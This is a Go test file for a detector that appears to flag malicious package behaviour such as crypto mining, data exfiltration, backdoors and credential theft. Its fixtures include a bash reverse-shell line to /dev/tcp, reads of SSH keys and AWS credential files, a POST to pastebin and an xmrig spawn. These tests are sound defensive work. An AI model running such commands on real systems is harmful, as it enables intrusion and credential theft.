// SPDX-License-Identifier: GPL-3.0-or-later

package bheeshma

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func fixedNow() time.Time { return mustParseTime("2026-01-01T00:00:00Z") }

func sig(t *testing.T, typ SignalType, pkg PackageIdentity, md map[string]any) Signal {
	t.Helper()
	s, err := NewSignal(fixedNow(), typ, &pkg, md, nil)
	require.NoError(t, err)
	return s
}

func TestAnalyzePatterns_DisabledReturnsEmptyResult(t *testing.T) {
	cfg := PatternsConfig{Enabled: false}
	result := AnalyzePatterns(nil, cfg, fixedNow)
	assert.Empty(t, result.Findings)
	assert.Equal(t, Severity(""), result.HighestSeverity)
}

func TestDetectCryptoMiner_ShellExecSpawningMiner(t *testing.T) {
	pkg := PackageIdentity{Name: "evil-lib", Version: "1.0.0"}
	signals := []Signal{
		sig(t, ShellExec, pkg, map[string]any{"command": "xmrig --donate-level 1", "operation": "spawn"}),
	}
	findings := detectCryptoMiner(signals, fixedNow)
	require.Len(t, findings, 1)
	assert.Equal(t, ThreatCryptoMiner, findings[0].Kind)
}

func TestDetectCryptoMiner_MiningPoolContact(t *testing.T) {
	pkg := PackageIdentity{Name: "evil-lib", Version: "1.0.0"}
	signals := []Signal{
		sig(t, HttpsRequest, pkg, map[string]any{
			"url": "https://pool.minexmr.com/", "method": "POST", "host": "pool.minexmr.com",
			"port": 443, "path": "/", "headers": map[string]string{}, "suspicious": false,
		}),
	}
	findings := detectCryptoMiner(signals, fixedNow)
	require.Len(t, findings, 1)
}

func TestDetectCryptoMiner_NoMatchWhenClean(t *testing.T) {
	pkg := PackageIdentity{Name: "left-pad", Version: "1.0.0"}
	signals := []Signal{
		sig(t, EnvAccess, pkg, map[string]any{"variable": "NODE_ENV"}),
	}
	assert.Empty(t, detectCryptoMiner(signals, fixedNow))
}

func TestDetectDataExfiltration_SensitiveFilePlusHttpCorrelation(t *testing.T) {
	pkg := PackageIdentity{Name: "evil-lib", Version: "1.0.0"}
	signals := []Signal{
		sig(t, FsRead, pkg, map[string]any{"path": "/home/user/.ssh/id_rsa", "operation": "read"}),
		sig(t, HttpsRequest, pkg, map[string]any{
			"url": "https://api.example.com/", "method": "POST", "host": "api.example.com",
			"port": 443, "path": "/", "headers": map[string]string{},
		}),
	}
	findings := detectDataExfiltration(signals, fixedNow)
	require.Len(t, findings, 1)
	assert.Equal(t, ThreatSensitiveFilePlusHttp, findings[0].Kind)
	assert.Equal(t, SeverityCritical, findings[0].Severity)
	assert.Len(t, findings[0].Evidence, 2)
}

func TestDetectDataExfiltration_StandaloneExfilServiceRequest(t *testing.T) {
	pkg := PackageIdentity{Name: "evil-lib", Version: "1.0.0"}
	signals := []Signal{
		sig(t, HttpsRequest, pkg, map[string]any{
			"url": "https://pastebin.com/raw/x", "method": "POST", "host": "pastebin.com",
			"port": 443, "path": "/raw/x", "headers": map[string]string{},
		}),
	}
	findings := detectDataExfiltration(signals, fixedNow)
	require.Len(t, findings, 1)
	assert.Equal(t, ThreatDataExfiltration, findings[0].Kind)
	assert.Equal(t, SeverityCritical, findings[0].Severity)
}

func TestDetectDataExfiltration_ReadAloneIsNotAFinding(t *testing.T) {
	pkg := PackageIdentity{Name: "left-pad", Version: "1.0.0"}
	signals := []Signal{
		sig(t, FsRead, pkg, map[string]any{"path": "/home/user/.ssh/id_rsa", "operation": "read"}),
	}
	assert.Empty(t, detectDataExfiltration(signals, fixedNow))
}

func TestDetectBackdoor_ReverseShellCommand(t *testing.T) {
	pkg := PackageIdentity{Name: "evil-lib", Version: "1.0.0"}
	signals := []Signal{
		sig(t, ShellExec, pkg, map[string]any{"command": "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "operation": "spawn"}),
	}
	findings := detectBackdoor(signals, fixedNow)
	require.Len(t, findings, 1)
	assert.Equal(t, SeverityCritical, findings[0].Severity)
}

func TestDetectCredentialTheft_EnvAccessIsHigh(t *testing.T) {
	pkg := PackageIdentity{Name: "evil-lib", Version: "1.0.0"}
	signals := []Signal{
		sig(t, EnvAccess, pkg, map[string]any{"variable": "AWS_SECRET_ACCESS_KEY"}),
	}
	findings := detectCredentialTheft(signals, fixedNow)
	require.Len(t, findings, 1)
	assert.Equal(t, SeverityHigh, findings[0].Severity)
}

func TestDetectCredentialTheft_CredentialFileReadIsHigh(t *testing.T) {
	pkg := PackageIdentity{Name: "evil-lib", Version: "1.0.0"}
	signals := []Signal{
		sig(t, FsRead, pkg, map[string]any{"path": "/home/user/.aws/credentials", "operation": "read"}),
	}
	findings := detectCredentialTheft(signals, fixedNow)
	require.Len(t, findings, 1)
	assert.Equal(t, SeverityHigh, findings[0].Severity)
}

func TestAnalyzePatterns_HighestSeverityAcrossDetectors(t *testing.T) {
	pkg := PackageIdentity{Name: "evil-lib", Version: "1.0.0"}
	signals := []Signal{
		sig(t, EnvAccess, pkg, map[string]any{"variable": "AWS_SECRET_ACCESS_KEY"}),
	}
	cfg := PatternsConfig{Enabled: true, DetectCryptoMiners: true, DetectDataExfiltration: true, DetectBackdoors: true}
	result := AnalyzePatterns(signals, cfg, fixedNow)
	assert.Equal(t, SeverityHigh, result.HighestSeverity)
}

func TestAnalyzePatterns_NoFindingsIsNone(t *testing.T) {
	pkg := PackageIdentity{Name: "left-pad", Version: "1.0.0"}
	signals := []Signal{
		sig(t, EnvAccess, pkg, map[string]any{"variable": "NODE_ENV"}),
	}
	cfg := PatternsConfig{Enabled: true, DetectCryptoMiners: true, DetectDataExfiltration: true, DetectBackdoors: true}
	result := AnalyzePatterns(signals, cfg, fixedNow)
	assert.Empty(t, result.Findings)
	assert.Equal(t, SeverityNone, result.HighestSeverity)
}

func TestAnalyzePatterns_CryptoMinerAloneIsCriticalCategory(t *testing.T) {
	pkg := PackageIdentity{Name: "evil-lib", Version: "1.0.0"}
	signals := []Signal{
		sig(t, ShellExec, pkg, map[string]any{"command": "xmrig --donate-level 1", "operation": "spawn"}),
	}
	cfg := PatternsConfig{Enabled: true, DetectCryptoMiners: true, DetectDataExfiltration: true, DetectBackdoors: true}
	result := AnalyzePatterns(signals, cfg, fixedNow)
	assert.Equal(t, SeverityCritical, result.HighestSeverity)
}
